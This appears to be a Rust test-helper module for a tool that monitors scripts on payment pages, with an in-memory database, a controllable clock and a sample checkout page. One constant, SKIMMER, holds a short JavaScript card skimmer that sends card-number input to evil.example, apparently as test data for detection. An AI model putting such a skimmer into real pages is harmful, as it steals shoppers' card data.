//! A domain over a database in memory, with a clock that is moved and pages made of HTML.

use std::sync::Arc;
use std::time::Duration;

use gabion_core::{Actor, Clock, Severity, SiteId, Timestamp};
use gabion_markup::class::ClassRule;
use gabion_markup::headers::SecurityHeaders;
use gabion_markup::page::Page as Markup;
use gabion_markup::report::{Blocked, Report, ReportKind, ScriptHash, Violation};
use gabion_markup::sighting::{PageSeen, ReportSeen, ScriptSeen, Seen, SeenBy, Sighting};
use gabion_markup::{Address, Collector, ContentHash, PageClass, Rewrite};
use gabion_pages::change::{ChangeFilter, ChangeKind, ChangeView};
use gabion_pages::script::{ScriptFilter, ScriptView};
use gabion_pages::{Deps, LooksSection, MIGRATIONS, Pages};
use gabion_store::journal::{Filter, View};
use gabion_store::{Db, StorageConfig, StoreDeps};
use gabion_test::{SeededEntropy, TestClock};
use gabion_web::Page;

pub(crate) const SHOP: &str = "https://shop.example";
pub(crate) const HEADERS: &[(&str, &str)] = &[
    ("content-security-policy", "script-src 'self' https://js.stripe.com"),
    ("x-frame-options", "DENY"),
    ("strict-transport-security", "max-age=31536000"),
];
/// A checkout with a file of the shop's own, a payment company's, a script in the page and a form.
pub(crate) const CHECKOUT: &str = r#"<script src="/static/app.js"></script><script src="https://js.stripe.com/v3/"></script>
<script>startCheckout()</script><button onclick="pay()">Pay</button>
<form name="card" action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number"></form>"#;
pub(crate) const SKIMMER: &str = r#"document.querySelector('#cardnumber').addEventListener('input', e =>
    navigator.sendBeacon('https://evil.example/c', e.target.value))"#;

pub(crate) struct World {
    pub(crate) pages: Pages,
    pub(crate) db: Db,
    pub(crate) clock: TestClock,
    pub(crate) site: SiteId,
}

pub(crate) fn ann() -> Actor {
    Actor::Staff("stf_ann".to_owned())
}

pub(crate) fn all() -> Page {
    Page { cursor: None, limit: 200 }
}

pub(crate) fn address(path: &str) -> Address {
    let text = if path.starts_with('/') { format!("{SHOP}{path}") } else { path.to_owned() };
    Address::parse(&text).unwrap()
}

pub(crate) fn markup(at: &Address, html: &str) -> Markup {
    let mut collector = Collector::new(at, Some("utf-8"), Rewrite::default());
    let mut out = Vec::new();
    collector.write(html.as_bytes(), &mut out);
    collector.finish(&mut out)
}

pub(crate) fn headers(given: &[(&str, &str)]) -> SecurityHeaders {
    SecurityHeaders::read(given.iter().map(|(name, value)| (*name, value.as_bytes())))
}

pub(crate) fn rule(path: &str, class: PageClass) -> ClassRule {
    ClassRule { path: path.parse().unwrap(), class }
}

impl World {
    pub(crate) async fn new() -> Self {
        Self::on(StorageConfig::new("sqlite::memory:")).await
    }

    pub(crate) async fn on(storage: StorageConfig) -> Self {
        let clock = TestClock::new();
        let entropy = Arc::new(SeededEntropy::new(7));
        let deps = StoreDeps { clock: Arc::new(clock.clone()), entropy: entropy.clone() };
        let db = Db::open(storage, deps).await.unwrap();
        db.migrate(&[MIGRATIONS]).await.unwrap();
        let deps = Deps { db: db.clone(), clock: Arc::new(clock.clone()), entropy };
        let pages = Pages::new(LooksSection::default(), deps);
        Self { pages, db, clock, site: "tea".parse().unwrap() }
    }

    pub(crate) fn now(&self) -> Timestamp {
        self.clock.now()
    }

    pub(crate) fn pass(&self, time: Duration) {
        self.clock.advance(time);
    }

    pub(crate) fn sighting(&self, seen: Seen) -> Sighting {
        Sighting { site: self.site.clone(), at: self.now(), seen }
    }

    pub(crate) fn page_seen(&self, class: PageClass, path: &str, html: &str) -> PageSeen {
        let address = address(path);
        PageSeen {
            class,
            page: markup(&address, html),
            address,
            status: 200,
            headers: headers(HEADERS),
            servings: 1,
            by: SeenBy::Serving,
        }
    }

    pub(crate) fn served(&self, class: PageClass, path: &str, html: &str) -> Sighting {
        self.sighting(Seen::Page(Box::new(self.page_seen(class, path, html))))
    }

    pub(crate) fn script_served(&self, path: &str, text: &str) -> Sighting {
        self.sighting(Seen::Script(ScriptSeen {
            address: address(path),
            hash: ContentHash::of(text.as_bytes()),
            bytes: text.len() as u64,
            beginning: text.to_owned(),
            by: SeenBy::Serving,
        }))
    }

    pub(crate) fn reported(&self, class: PageClass, kind: ReportKind) -> Sighting {
        let report = Report { page: address("/checkout"), kind };
        self.sighting(Seen::Report(Box::new(ReportSeen { class, report, count: 1 })))
    }

    pub(crate) fn violation(&self, class: PageClass, directive: &str, blocked: Blocked) -> Sighting {
        let violation = Violation {
            directive: directive.to_owned(),
            blocked,
            is_enforced: false,
            source: None,
            line: None,
            column: None,
            sample: String::new(),
        };
        self.reported(class, ReportKind::Violation(violation))
    }

    pub(crate) fn ran(&self, class: PageClass, script: &str, text: &str) -> Sighting {
        let hash = ContentHash::of(text.as_bytes()).to_string();
        let script = Some(address(script));
        let destination = "script".to_owned();
        self.reported(class, ReportKind::Hash(ScriptHash { script, hash, destination }))
    }

    pub(crate) async fn take(&self, sightings: Vec<Sighting>) {
        self.pages.take(sightings).await.unwrap();
    }

    /// A checkout was seen, its file too, and people confirmed what pages are for and approved everything.
    pub(crate) async fn approved(&self) {
        self.take(vec![
            self.served(PageClass::Payment, "/checkout", CHECKOUT),
            self.script_served("/static/app.js", "start();\nshow();"),
        ])
        .await;
        let rules = vec![rule("/checkout/*", PageClass::Payment)];
        self.pages.set_classes(&self.site, rules, ann()).await.unwrap();
        let approval = gabion_pages::decision::Approval {
            justification: Some("Needed to pay.".to_owned()),
            with_destinations: true,
            with_headers: true,
            ..Default::default()
        };
        self.pages.approve_class(&self.site, PageClass::Payment, approval, ann()).await.unwrap();
        self.pass(Duration::from_secs(60));
    }

    pub(crate) async fn scripts(&self) -> Vec<ScriptView> {
        self.pages.scripts(&self.site, ScriptFilter::default(), all()).await.unwrap().items
    }

    pub(crate) async fn script(&self, key: &str) -> ScriptView {
        let scripts = self.scripts().await;
        scripts.into_iter().find(|script| script.key.ends_with(key)).unwrap_or_else(|| panic!("no {key}"))
    }

    pub(crate) async fn changes(&self) -> Vec<ChangeView> {
        self.pages.changes(&self.site, ChangeFilter::default(), all()).await.unwrap().items
    }

    pub(crate) async fn change(&self, kind: ChangeKind) -> ChangeView {
        let mut found: Vec<_> = self.changes().await.into_iter().filter(|one| one.kind == kind).collect();
        assert!(!found.is_empty(), "no change of kind {kind}");
        found.swap_remove(0)
    }

    /// Kind and severity of every event of this domain, in order.
    pub(crate) async fn events(&self) -> Vec<(String, Severity)> {
        let filter = Filter { kind: Some("pages".to_owned()), ..Filter::default() };
        let entries = self.db.journal().read(0, 500, filter, View::Full).await.unwrap();
        entries.into_iter().map(|entry| (entry.event.kind.to_string(), entry.event.severity)).collect()
    }

    pub(crate) async fn events_of(&self, kind: &str) -> Vec<Severity> {
        let events = self.events().await;
        events.into_iter().filter(|(name, _)| name == kind).map(|(_, severity)| severity).collect()
    }
}
